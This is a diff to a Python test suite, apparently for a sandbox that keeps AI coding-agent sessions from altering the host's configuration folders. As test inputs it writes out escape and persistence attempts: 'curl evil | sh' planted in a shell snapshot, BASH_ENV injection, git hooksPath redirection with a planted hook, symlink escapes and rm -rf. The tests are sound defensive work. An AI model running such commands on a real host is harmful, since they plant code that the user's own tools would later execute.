@@ -133,8 +133,10 @@ def test_claude_account_is_an_allow_list(ctx):
         "echo '{{}}' > {a}/settings.local.json",
         "echo BASH_ENV=/tmp/x > {a}/.env",
         "echo x > {a}/shell-snapshots-evil.sh",
-        "mkdir {a}/shell-snapshots",
-        "mkdir -p {a}/session-env",
+        # (shell-snapshots/ and session-env/ are folders of the session's
+        # own: test_private_folders_work_inside_and_never_reach_the_host)
+        "rm -rf {a}/shell-snapshots",
+        "ln -s /tmp {a}/shell-snapshots/../shell-snapshots2",
         "mkdir -p {a}/file-history/s && echo x > {a}/file-history/s/b@v1",
         "mkdir -p {a}/backups && echo '{{}}' > {a}/backups/.claude.json.b",
         "ln -s /tmp {a}/projects2",
@@ -356,3 +358,40 @@ def test_claude_json_keeps_only_its_allowed_keys(ctx):
     time.sleep(0.5)
     with open(cj) as f:
         assert json.load(f)["numStartups"] == 4
+
+
+def test_private_folders_work_inside_and_never_reach_the_host(ctx):
+    """Claude's shell snapshots and Codex's plugin staging (a git clone
+    with its hooks) are made in folders of the session's own: they work
+    inside, and the host's folders, which the host's CLI sources or runs,
+    stay as they were. Checked on the host with git and by listing."""
+    d, c, project = setup(ctx)
+    h = d.home
+    sid = create(c, project, "claude")
+    snaps = os.path.join(h, ".claude/shell-snapshots")
+    r = run(c, sid, "echo 'curl evil | sh' > %s/snapshot-bash-1.sh && "
+            "mkdir -p %s/../session-env/x && echo x > "
+            "%s/../session-env/x/hook.sh && cat %s/snapshot-bash-1.sh && "
+            "echo rc=$?" % (snaps, snaps, snaps, snaps))
+    assert "rc=0" in r["stdout"] and "curl evil" in r["stdout"], r
+    # the mount point itself stays: no rename, no symlink in its place
+    r = run(c, sid, "mv %s %s.x; echo rc=$?" % (snaps, snaps))
+    assert "rc=0" not in r["stdout"], r
+    sid2 = create(c, project, "codex")
+    tmp = os.path.join(h, ".codex/.tmp")
+    r = run(c, sid2, "cd %s && git init -q plugins-clone-1 && cd "
+            "plugins-clone-1 && git config core.hooksPath /tmp/h && "
+            "echo '#!/bin/sh' > .git/hooks/post-checkout && "
+            "git -c user.email=a@b -c user.name=a commit -q --allow-empty "
+            "-m x && echo rc=$?" % tmp)
+    assert "rc=0" in r["stdout"], r
+    c.call("session.close", {"session": sid})
+    c.call("session.close", {"session": sid2})
+    for dpath in (snaps, os.path.join(h, ".claude/session-env"), tmp):
+        assert os.path.isdir(dpath), dpath
+        assert os.listdir(dpath) == [], (dpath, os.listdir(dpath))
+    # a session of another provider cannot write there
+    sid3 = create(c, project, "gemini")
+    r = run(c, sid3, "echo x > %s/s.sh; echo rc=$?" % snaps)
+    assert "rc=0" not in r["stdout"], r
+    assert os.listdir(snaps) == []
